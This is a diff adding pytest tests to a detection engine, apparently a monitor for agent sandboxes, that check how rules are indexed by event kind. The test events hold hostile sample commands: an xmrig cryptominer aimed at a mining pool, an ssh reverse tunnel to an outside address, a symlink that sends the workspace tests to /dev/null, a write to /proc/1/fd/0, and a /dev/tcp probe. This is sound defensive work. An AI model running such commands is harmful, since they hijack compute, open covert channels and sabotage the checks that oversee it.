@@ -109,3 +109,49 @@ def test_benign_lookalikes_are_quiet():
                   command="timeout 1 bash -c 'echo > /dev/tcp/127.0.0.1/5432'",
                   data={"redirects": ["/dev/tcp/127.0.0.1/5432"]})
     assert not d.evaluate(probe).matched
+
+
+def test_event_kinds_of_a_condition_over_approximate():
+    from corral.detect.condition import event_kinds
+
+    macros = {"spawned": "evt.kind = process and evt.action = exec", "pre": "evt.kind = command",
+              "runs": "spawned or pre"}
+    lists = {"net_kinds": ["connect", "dns"]}
+    assert event_kinds("runs and proc.name = x", macros) == {"process", "command"}
+    assert event_kinds("evt.kind in (net_kinds) and net.dst_port = 22", macros, lists) == {"connect", "dns"}
+    assert event_kinds("spawned and (pre or proc.name = y)", macros) == {"process"}
+    # nothing is known from a negation, an inequality, or a branch without a kind
+    for text in ("not evt.kind = file", "evt.kind != file", "spawned or proc.name = y", "proc.name exists"):
+        assert event_kinds(text, macros) is None, text
+
+
+def test_the_kind_index_never_changes_a_judgement():
+    """Every shipped rule judges an event of every kind the same with and without the index that
+    skips rules which cannot match that kind."""
+    d = Detector()
+    argvs = [["true"], ["xmrig", "-o", "pool.example:3333"], ["ln", "-s", "/dev/null", "/workspace/tests"],
+             ["ssh", "-R", "2222:127.0.0.1:22", "t@203.0.113.7"], ["sh", "-c", "echo x > /proc/1/fd/0"]]
+    events = []
+    for kind in EventKind:
+        for argv in argvs:
+            for action in ("exec", "check", "connect", "query", "write", "close", "degraded"):
+                events.append(Event(kind=kind, action=action, sandbox_id="sb", step=1, argv=argv,
+                                    exe="/usr/bin/" + argv[0], command=" ".join(argv), name="xmr-eu1.nanopool.org",
+                                    dst_ip="203.0.113.5", dst_port=3333, protocol="stratum",
+                                    path="/workspace/tests/test_x.py",
+                                    data={"protected": ["/workspace/tests/*"], "redirects": ["/proc/1/fd/0"]}))
+    from corral.detect.fields import getter
+
+    kinds_matched = set()
+    for ev in events:
+        indexed = {r.id for r in d.ruleset.active_for(str(ev.kind))}
+        for rule in d.ruleset.active():
+            try:
+                matched = bool(rule.pred(getter(ev)))
+            except Exception:
+                matched = False
+            assert not matched or rule.id in indexed, (rule.id, ev.kind, ev.action)
+            if matched:
+                kinds_matched.add(str(ev.kind))
+    # the events do exercise rules of several kinds (the check above is not vacuous)
+    assert {"process", "command", "connect", "dns"} <= kinds_matched, kinds_matched
